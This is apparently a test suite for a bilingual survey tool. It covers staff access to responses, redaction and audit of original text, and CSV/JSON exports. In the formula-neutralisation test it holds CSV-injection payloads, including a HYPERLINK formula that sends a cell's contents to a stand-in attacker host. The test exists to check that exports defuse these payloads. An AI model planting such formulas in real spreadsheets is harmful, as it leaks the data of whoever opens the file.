/**
 * Responses for staff: who reads them, who sees the original text (and that it
 * is audited), search and paging, and the CSV and JSON exports: parsed back,
 * labels in English and Welsh, formulas neutralised, and streamed in flat memory.
 */
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { and, desc, eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { getDb } from "../../db/client";
import { makeResponses } from "../../db/response-factory";
import { auditEvents, responses, surveyVersions } from "../../db/schema";
import type { Role } from "../../db/enums";
import { londonDate } from "../../app/components/dates";
import { createChannel } from "../../app/distribution/channels.server";
import { recordResponse } from "../../app/respondent/responses.server";
import { validateSubmission } from "../../app/respondent/survey-engine";
import { exportResponses } from "../../app/responses/export.server";
import { listResponses } from "../../app/responses/responses.server";
import type { SurveyJson } from "../../app/surveys/survey-json";
import * as detail from "../../app/routes/surveys.$surveyId.responses.$responseId";
import * as list from "../../app/routes/surveys.$surveyId.responses._index";
import * as exporter from "../../app/routes/surveys.$surveyId.responses.export";
import { RESPONDENT_SURVEY } from "../fixtures/respondent-survey";
import { args, get, makeOrganisationWithUsers, outcome, post } from "../helpers";
import { publishTestSurvey } from "../respondent-helpers";

type Org = Awaited<ReturnType<typeof makeOrganisationWithUsers>>;
let a: Org;
let b: Org;
let surveyId: number;
let channelId: number;
let known: number;
let plain: number;
let foreignSurveyId: number;
let foreignResponseId: number;

const actorOf = (org: Org) => ({ id: org.people.engagement_lead.id, organisation: { id: org.organisation.id } });

function latestVersion(id: number) {
  return getDb()
    .select({ id: surveyVersions.id, definition: surveyVersions.definition })
    .from(surveyVersions)
    .where(eq(surveyVersions.surveyId, id))
    .orderBy(desc(surveyVersions.version))
    .get()!;
}

let submissions = 0;
/** Through the real ingest: checked by the survey engine, redacted, stored. Returns the response id. */
function submit(
  org: Org,
  id: number,
  answers: Record<string, unknown>,
  options: { language?: string; channel?: number | null; day?: string } = {},
) {
  const version = latestVersion(id);
  const language = options.language ?? "en";
  const checked = validateSubmission(version.definition, answers, language);
  if (!checked.ok) throw new Error(`not a valid submission: ${JSON.stringify(checked)}`);
  submissions += 1;
  const key = `responses-test-${submissions}`;
  recordResponse(
    {
      organisationId: org.organisation.id,
      surveyId: id,
      versionId: version.id,
      definition: version.definition,
      channelId: options.channel ?? null,
      language,
      answers: checked.answers,
      submissionKey: key,
    },
    options.day ?? "2027-03-01",
  );
  return getDb().select({ id: responses.id }).from(responses).where(eq(responses.submissionKey, key)).get()!.id;
}

const listPath = (id: number) => `/surveys/${id}/responses`;
const exportPath = (id: number, query = "") => `/surveys/${id}/responses/export${query}`;

function loadList(cookie: string, id = surveyId, query = "") {
  return outcome(() => list.loader(args(get(`${listPath(id)}${query}`, cookie), { surveyId: String(id) })));
}

function showOriginal(cookie: string, responseId: number, id = surveyId) {
  const path = `${listPath(id)}/${responseId}`;
  return outcome(() =>
    detail.action(
      args(post(path, { intent: "show-original" }, cookie), { surveyId: String(id), responseId: String(responseId) }),
    ),
  );
}

function download(cookie: string, fields: Record<string, string>, method: "GET" | "POST" = "POST", id = surveyId) {
  if (method === "GET") {
    const query = `?${new URLSearchParams(fields)}`;
    return outcome(() => exporter.loader(args(get(exportPath(id, query), cookie), { surveyId: String(id) })));
  }
  return outcome(() => exporter.action(args(post(exportPath(id), fields, cookie), { surveyId: String(id) })));
}

async function downloaded(cookie: string, fields: Record<string, string>, method: "GET" | "POST" = "POST", id = surveyId) {
  const { thrown, value } = await download(cookie, fields, method, id);
  expect(thrown?.status ?? 200).toBe(200);
  return value as Response;
}

function auditOf(action: string, objectId: number) {
  return getDb()
    .select({ actor: auditEvents.actorUserId, objectType: auditEvents.objectType, detail: auditEvents.detail })
    .from(auditEvents)
    .where(and(eq(auditEvents.action, action), eq(auditEvents.objectId, String(objectId))))
    .all();
}

/** RFC 4180, strictly: a quote only opens a cell or doubles inside one; records end with CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else quoted = false;
      continue;
    }
    if (c === '"') {
      if (cell !== "" || wasQuoted) throw new Error(`stray quote at ${i}`);
      quoted = true;
      wasQuoted = true;
    } else if (c === ",") {
      row.push(cell);
      cell = "";
      wasQuoted = false;
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      wasQuoted = false;
      i += 1;
    } else {
      if (wasQuoted) throw new Error(`text after a closing quote at ${i}`);
      cell += c;
    }
  }
  if (quoted) throw new Error("unclosed quote");
  if (cell !== "" || row.length) throw new Error("last record without CRLF");
  return rows;
}

async function csvOf(response: Response) {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows = parseCsv(new TextDecoder().decode(bytes.slice(3)));
  const [header, ...body] = rows;
  for (const record of rows) expect(record).toHaveLength(header.length);
  const records = body.map((record) => Object.fromEntries(header.map((label, i) => [label, record[i]])));
  return { header, records, byId: (id: number) => records.find((record) => Number(record[header[0]]) === id)! };
}

const KNOWN = {
  reported: "yes",
  help: ["police", "other"],
  "help-Comment": "My neighbour zebracrossing (sam@example.org)",
  treated: 4,
  informed: true,
  aspects: { listened: "agree", believed: "disagree" },
  better: "First line zebracrossing\nCall me on 07700 900123 please",
  area: "north",
};

beforeAll(async () => {
  a = await makeOrganisationWithUsers("resp-a");
  b = await makeOrganisationWithUsers("resp-b");
  surveyId = publishTestSurvey(actorOf(a), "resp-survey");
  const channel = createChannel(actorOf(a), surveyId, "Victim hub text message");
  if (!channel.ok) throw new Error("channel not created");
  channelId = channel.id;
  const version = latestVersion(surveyId);
  makeResponses({
    organisationId: a.organisation.id,
    surveyId,
    versionId: version.id,
    definition: version.definition as SurveyJson,
    count: 30,
    seed: 7,
    channelIds: [null, channelId],
    lastDay: "2027-02-20",
    days: 30,
  });
  known = submit(a, surveyId, KNOWN, { channel: channelId, day: "2027-03-02" });
  plain = submit(a, surveyId, { reported: "no", better: "Nothing personal here at all", area: "south" }, { language: "cy" });
  foreignSurveyId = publishTestSurvey(actorOf(b), "resp-foreign");
  foreignResponseId = submit(b, foreignSurveyId, { better: "Ring 07700 900999", area: "north" });
});

describe("who reads responses", () => {
  it("lets admins, leads and analysts read the list, and nobody else", async () => {
    const allowed: Role[] = ["admin", "engagement_lead", "analyst"];
    for (const role of ["admin", "engagement_lead", "analyst", "panel_member", "action_owner"] as Role[]) {
      const { thrown } = await loadList(a.people[role].cookie);
      expect(thrown?.status ?? 200, role).toBe(allowed.includes(role) ? 200 : 403);
    }
  });

  it("answers 404 for another organisation's survey or response", async () => {
    expect((await loadList(a.people.analyst.cookie, foreignSurveyId)).thrown?.status).toBe(404);
    expect((await showOriginal(a.people.analyst.cookie, foreignResponseId)).thrown?.status).toBe(404);
    expect((await showOriginal(a.people.analyst.cookie, foreignResponseId, foreignSurveyId)).thrown?.status).toBe(404);
    const foreignDetail = await outcome(() =>
      detail.loader(
        args(get(`${listPath(surveyId)}/${foreignResponseId}`, a.people.admin.cookie), {
          surveyId: String(surveyId),
          responseId: String(foreignResponseId),
        }),
      ),
    );
    expect(foreignDetail.thrown?.status).toBe(404);
    expect((await download(a.people.analyst.cookie, { format: "csv" }, "POST", foreignSurveyId)).thrown?.status).toBe(404);
    expect(auditOf("response.original_viewed", foreignResponseId)).toEqual([]);
  });
});

describe("the responses list", () => {
  it("shows 25 a page, newest first, each answer in the reader's language with free text redacted", async () => {
    const { value } = await loadList(a.people.engagement_lead.cookie);
    const data = value as Awaited<ReturnType<typeof list.loader>>;
    expect(data.list.total).toBe(32);
    expect(data.list.responses).toHaveLength(25);
    expect(data.list.pageCount).toBe(2);
    expect(data.list.responses[0].id).toBe(known);
    expect(data.list.responses[1].id).toBe(plain);
    expect(data.canSeeOriginal).toBe(false);
    const shown = data.list.responses[0];
    expect(shown).toMatchObject({ day: "2027-03-02", channel: "Victim hub text message", language: "en", hasOriginal: true });
    const byName = Object.fromEntries(shown.answers.map((view) => [view.name, view]));
    expect(byName.reported).toMatchObject({ question: "Did you report the crime to us?", parts: [{ text: "Yes" }] });
    expect(byName.help.parts).toEqual([
      { text: "The police" },
      { label: "Something else (please say)", text: "My neighbour [name] ([email address])", freeText: true },
    ]);
    expect(byName.aspects.parts).toEqual([
      { label: "They listened to me", text: "Agree" },
      { label: "They believed me", text: "Disagree" },
    ]);
    expect(byName.informed.parts).toEqual([{ text: "Yes" }]);
    expect(byName.better.parts[0].text).toBe("First line zebracrossing\nCall me on [phone number] please");
    // The original never reaches the list, whoever reads it.
    const asAnalyst = (await loadList(a.people.analyst.cookie)).value;
    expect(JSON.stringify(asAnalyst)).not.toContain("900123");
    expect(JSON.stringify(asAnalyst)).not.toContain("sam@example.org");
    expect((asAnalyst as typeof data).canSeeOriginal).toBe(true);

    const second = (await loadList(a.people.analyst.cookie, surveyId, "?page=2")).value as typeof data;
    expect(second.list.responses).toHaveLength(7);
    expect(second.list).toMatchObject({ page: 2, from: 26, to: 32 });
  });

  it("reads choices and questions in Welsh for a Welsh reader", async () => {
    const { value } = await loadList(a.people.analyst.cookie, surveyId, "?lng=cy");
    const data = value as Awaited<ReturnType<typeof list.loader>>;
    const views = data.list.responses.find((response) => response.id === known)!.answers;
    expect(views[0]).toMatchObject({ question: "Wnaethoch chi roi gwybod i ni am y drosedd?", parts: [{ text: "Do" }] });
    expect(views.find((view) => view.name === "help")!.parts[0]).toEqual({ text: "Yr heddlu" });
  });

  it("searches the redacted free text only, with LIKE's wildcards taken literally", () => {
    const search = (words: string) =>
      listResponses(a.organisation.id, surveyId, { page: 1, search: words, lang: "en" }).responses.map((r) => r.id);
    expect(search("zebracrossing")).toEqual([known]);
    expect(search("ZEBRAcrossing")).toEqual([known]);
    expect(search("[phone number]")).toContain(known);
    expect(search("07700 900123")).toEqual([]);
    expect(search("police")).not.toContain(known); // a choice, not free text
    expect(search("%")).toEqual([]);
    expect(search("_")).toEqual([]);
  });
});

describe("the original text", () => {
  it("is refused to leads and panel members", async () => {
    for (const role of ["engagement_lead", "panel_member", "action_owner"] as Role[]) {
      expect((await showOriginal(a.people[role].cookie, known)).thrown?.status, role).toBe(403);
    }
    expect(auditOf("response.original_viewed", known)).toEqual([]);
  });

  it("is shown to analysts and admins, and each time is audited without the text", async () => {
    for (const role of ["analyst", "admin"] as Role[]) {
      const { value } = await showOriginal(a.people[role].cookie, known);
      const original = (value as { data: { original: { key: string; question: string; text: string }[] } }).data.original;
      expect(original).toEqual([
        { key: "help-Comment", question: "Who helped you? – other", text: "My neighbour zebracrossing (sam@example.org)" },
        { key: "better", question: "What could we do better?", text: "First line zebracrossing\nCall me on 07700 900123 please" },
      ]);
    }
    const audits = auditOf("response.original_viewed", known);
    expect(audits.map((entry) => entry.actor).sort()).toEqual([a.people.analyst.id, a.people.admin.id].sort());
    expect(audits.every((entry) => entry.objectType === "response")).toBe(true);
    expect(JSON.stringify(audits)).not.toContain("900123");
  });

  it("answers 404, and records nothing, when redaction changed nothing", async () => {
    expect((await showOriginal(a.people.analyst.cookie, plain)).thrown?.status).toBe(404);
    expect(auditOf("response.original_viewed", plain)).toEqual([]);
  });

  it("says on the response's page who can see it and when it is deleted", async () => {
    const load = (cookie: string) =>
      detail.loader(
        args(get(`${listPath(surveyId)}/${known}`, cookie), { surveyId: String(surveyId), responseId: String(known) }),
      );
    const asLead = load(a.people.engagement_lead.cookie);
    expect(asLead.canSeeOriginal).toBe(false);
    expect(JSON.stringify(asLead)).not.toContain("900123");
    const asAnalyst = load(a.people.analyst.cookie);
    expect(asAnalyst).toMatchObject({ canSeeOriginal: true, retentionDays: 365, keptUntil: "2028-03-01" });
    expect(asAnalyst.response.hasOriginal).toBe(true);
  });
});

describe("exports", () => {
  it("gives leads the redacted CSV, with columns and labels in English", async () => {
    const response = await downloaded(a.people.engagement_lead.cookie, { format: "csv", lng: "en" });
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toBe(
      `attachment; filename=resp-survey-responses-${londonDate(new Date())}.csv`,
    );
    expect(response.headers.get("Cache-Control")).toBe("no-store");
    const csv = await csvOf(response);
    expect(csv.header).toEqual([
      "Response ID",
      "Day",
      "Channel",
      "Language",
      "Did you report the crime to us?",
      "Who helped you?",
      "Who helped you? – other",
      "How well were you treated?",
      "Were you kept up to date?",
      "How much do you agree? – They listened to me",
      "How much do you agree? – They believed me",
      "What could we do better?",
      "Which area do you live in?",
    ]);
    expect(csv.records).toHaveLength(32);
    expect(csv.byId(known)).toEqual({
      "Response ID": String(known),
      Day: "2027-03-02",
      Channel: "Victim hub text message",
      Language: "en",
      "Did you report the crime to us?": "Yes",
      "Who helped you?": "The police; Something else (please say)",
      "Who helped you? – other": "My neighbour [name] ([email address])",
      "How well were you treated?": "4",
      "Were you kept up to date?": "Yes",
      "How much do you agree? – They listened to me": "Agree",
      "How much do you agree? – They believed me": "Disagree",
      "What could we do better?": "First line zebracrossing\nCall me on [phone number] please",
      "Which area do you live in?": "North",
    });
    expect(csv.byId(plain)).toMatchObject({
      Channel: "Public link (no channel)",
      Language: "cy",
      "How much do you agree? – They believed me": "",
    });
    const audit = auditOf("responses.exported", surveyId).at(-1)!;
    expect(audit).toMatchObject({
      actor: a.people.engagement_lead.id,
      detail: { format: "csv", text: "redacted", language: "en", rows: 32 },
    });
  });

  it("writes Welsh headers and labels when asked", async () => {
    const csv = await csvOf(await downloaded(a.people.engagement_lead.cookie, { format: "csv", lng: "cy" }, "GET"));
    expect(csv.header.slice(0, 6)).toEqual([
      "Rhif yr ymateb",
      "Diwrnod",
      "Sianel",
      "Iaith",
      "Wnaethoch chi roi gwybod i ni am y drosedd?",
      "Pwy wnaeth eich helpu chi?",
    ]);
    expect(csv.header).toContain("Pwy wnaeth eich helpu chi? – arall");
    expect(csv.header).toContain("I ba raddau rydych chi'n cytuno? – Roedden nhw'n gwrando arna i");
    const row = csv.byId(known);
    expect(row["Wnaethoch chi roi gwybod i ni am y drosedd?"]).toBe("Do");
    expect(row["Pwy wnaeth eich helpu chi?"]).toBe("Yr heddlu; Rhywbeth arall (dywedwch)");
    expect(row["I ba raddau rydych chi'n cytuno? – Roedden nhw'n gwrando arna i"]).toBe("Cytuno");
    expect(row["Ym mha ardal ydych chi'n byw?"]).toBe("Gogledd");
    expect(csv.byId(plain).Sianel).toBe("Dolen gyhoeddus (dim sianel)");
  });

  it("refuses the original to leads, and to everyone by a plain link", async () => {
    expect((await download(a.people.engagement_lead.cookie, { format: "csv", text: "original" })).thrown?.status).toBe(403);
    expect((await download(a.people.engagement_lead.cookie, { text: "original" }, "GET")).thrown?.status).toBe(403);
    for (const role of ["panel_member", "action_owner"] as Role[]) {
      expect((await download(a.people[role].cookie, { format: "csv" })).thrown?.status, role).toBe(403);
    }
    const link = await download(a.people.analyst.cookie, { format: "csv", text: "original" }, "GET");
    expect((link.value as Response).status).toBe(405);
    expect((await download(a.people.analyst.cookie, { format: "xlsx" })).thrown?.status).toBe(400);
    const audits = auditOf("responses.exported", surveyId).filter((entry) => entry.detail?.text === "original");
    expect(audits).toEqual([]);
  });

  it("gives analysts and admins the original, and audits each download without its content", async () => {
    for (const role of ["analyst", "admin"] as Role[]) {
      const csv = await csvOf(await downloaded(a.people[role].cookie, { format: "csv", lng: "en", text: "original" }));
      expect(csv.byId(known)["What could we do better?"]).toBe("First line zebracrossing\nCall me on 07700 900123 please");
      expect(csv.byId(plain)["What could we do better?"]).toBe("Nothing personal here at all");
    }
    const audits = auditOf("responses.exported", surveyId).filter((entry) => entry.detail?.text === "original");
    expect(audits.map((entry) => entry.actor).sort()).toEqual([a.people.analyst.id, a.people.admin.id].sort());
    expect(audits[0].detail).toEqual({ format: "csv", text: "original", language: "en", rows: 32 });
  });

  it("writes JSON with the same fields", async () => {
    const response = await downloaded(a.people.analyst.cookie, { format: "json", lng: "en" });
    expect(response.headers.get("Content-Type")).toBe("application/json; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(
      /^attachment; filename=resp-survey-responses-\d{4}-\d{2}-\d{2}\.json$/,
    );
    const parsed = JSON.parse(await response.text()) as Record<string, unknown>[];
    expect(parsed).toHaveLength(32);
    const csv = await csvOf(await downloaded(a.people.analyst.cookie, { format: "csv", lng: "en" }));
    expect(Object.keys(parsed[0])).toEqual(csv.header);
    expect(parsed.find((element) => element["Response ID"] === known)).toMatchObject({
      Channel: "Victim hub text message",
      "Who helped you?": ["The police", "Something else (please say)"],
      "What could we do better?": "First line zebracrossing\nCall me on [phone number] please",
      "How much do you agree? – They believed me": "Disagree",
    });
    const empty = publishTestSurvey(actorOf(a), "resp-empty");
    const none = await downloaded(a.people.analyst.cookie, { format: "json" }, "GET", empty);
    expect(JSON.parse(await none.text())).toEqual([]);
  });

  it("neutralises formulas in every cell, headers included", async () => {
    const risky = structuredClone(RESPONDENT_SURVEY) as typeof RESPONDENT_SURVEY;
    const first = risky.pages[0].elements[0] as { title: unknown; choices: { value: string; text: unknown }[] };
    first.title = { default: "=Did you report it?", cy: "=Wnaethoch chi roi gwybod?" };
    first.choices[1].text = { default: "-No", cy: "-Naddo" };
    const id = publishTestSurvey(actorOf(a), "resp-formulas", risky);
    const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx"];
    for (const payload of payloads) submit(a, id, { reported: "no", better: payload, area: "north" });
    const stored = getDb().select({ answers: responses.answers }).from(responses).where(eq(responses.surveyId, id)).all();
    console.log("free text as stored after redaction:", stored.map((row) => JSON.stringify(row.answers.better)).join("  "));
    // The original text in English, the redacted in Welsh: both neutralised, cell by cell.
    for (const [lng, text] of [
      ["en", "original"],
      ["cy", "redacted"],
    ]) {
      const risky = await csvOf(await downloaded(a.people.analyst.cookie, { format: "csv", lng, text }, "POST", id));
      expect(risky.header[4]).toBe(lng === "en" ? "'=Did you report it?" : "'=Wnaethoch chi roi gwybod?");
      const cells = [...risky.header, ...risky.records.flatMap((record) => Object.values(record))];
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(risky.records.map((record) => record[risky.header[4]])).toEqual(
        payloads.map(() => (lng === "en" ? "'-No" : "'-Naddo")),
      );
      const written = text === "original" ? payloads : payloads.map((p) => p.replace("http://evil.example/?x=", "[web address]"));
      expect(risky.records.map((record) => record[risky.header[11]])).toEqual(written.map((p) => `'${p}`));
    }
  });
});

describe("a large export", () => {
  it("streams 20,000 responses in many small chunks, in flat memory, without holding the connection", async () => {
    const id = publishTestSurvey(actorOf(a), "resp-large");
    const version = latestVersion(id);
    const rows = 20_000;
    const story = "I waited hours for anyone to come out and nobody kept me up to date about my case. ".repeat(24);
    const client = getDb().$client;
    const insert = client.prepare(
      `insert into responses (organisation_id, survey_id, survey_version_id, channel_id, language, submitted_on, answers, unredacted_text, danger_flag, submission_key)
       values (?, ?, ?, ?, ?, ?, ?, '{}', 0, ?)`,
    );
    client.transaction(() => {
      for (let i = 0; i < rows; i += 1) {
        const answers = {
          reported: i % 3 ? "yes" : "no",
          help: ["police", "hub"],
          better: `${story}${i}`,
          area: i % 2 ? "north" : "south",
        };
        insert.run(
          a.organisation.id,
          id,
          version.id,
          i % 2 ? channelId : null,
          i % 7 ? "en" : "cy",
          `2027-01-${String((i % 28) + 1).padStart(2, "0")}`,
          JSON.stringify(answers),
          `bulk-${i}`,
        );
      }
    })();

    setFlagsFromString("--expose-gc");
    const gc = runInNewContext("gc") as () => void;
    // Encoded chunks live outside the JavaScript heap: count both.
    const used = () => {
      const memory = process.memoryUsage();
      return memory.heapUsed + memory.arrayBuffers;
    };
    gc();
    const before = used();
    let peak = before;
    const started = performance.now();

    const response = await downloaded(a.people.analyst.cookie, { format: "csv", lng: "en" }, "POST", id);
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    let chunks = 0;
    let bytes = 0;
    let largest = 0;
    let records = 0;
    let firstChunkAt = 0;
    const seen = new Set<string>();
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks += 1;
      bytes += value.byteLength;
      largest = Math.max(largest, value.byteLength);
      const text = decoder.decode(value, { stream: true });
      records += text.split("\r\n").length - 1;
      // Chunks end where rows end: each row starts a line with its id.
      for (const match of text.matchAll(/(?:^|\r\n)"(\d+)",/g)) seen.add(match[1]);
      if (chunks === 1) {
        firstChunkAt = performance.now() - started;
        // Mid-download, the app's one connection still answers everyone else.
        expect(listResponses(a.organisation.id, id, { page: 1, search: "", lang: "en" }).total).toBe(rows);
      }
      if (chunks % 10 === 0) {
        gc();
        peak = Math.max(peak, used());
      }
      // A slow reader: a stream that read ahead regardless would pile the file up in memory meanwhile.
      await new Promise((resolve) => setImmediate(resolve));
    }
    const seconds = (performance.now() - started) / 1000;
    const growth = peak - before;
    console.log(
      `export of ${rows} responses: ${(bytes / 1e6).toFixed(1)} MB in ${chunks} chunks (largest ${(largest / 1e3).toFixed(0)} kB), ` +
        `first chunk after ${firstChunkAt.toFixed(0)} ms, all in ${seconds.toFixed(2)} s; memory growth at most ${(growth / 1e6).toFixed(1)} MB`,
    );
    expect(records).toBe(rows + 1);
    expect(seen.size).toBe(rows);
    expect(chunks).toBeGreaterThan(50);
    expect(largest).toBeLessThan(2_000_000);
    expect(bytes).toBeGreaterThan(40_000_000);
    // The whole file held in memory would be over 40 MB (80 MB as a JavaScript string).
    expect(growth).toBeLessThan(15_000_000);
  });

  it("exports a survey by organisation and survey id, for the benchmark", async () => {
    const prepared = exportResponses(a.organisation.id, surveyId, {
      format: "json",
      language: "cy",
      original: false,
      batchSize: 5,
    });
    expect(prepared.rows).toBe(32);
    let chunks = 0;
    let text = "";
    for await (const chunk of prepared.stream as unknown as AsyncIterable<Uint8Array>) {
      chunks += 1;
      text += new TextDecoder().decode(chunk);
    }
    expect(chunks).toBe(7);
    expect(JSON.parse(text)).toHaveLength(32);
  });
});
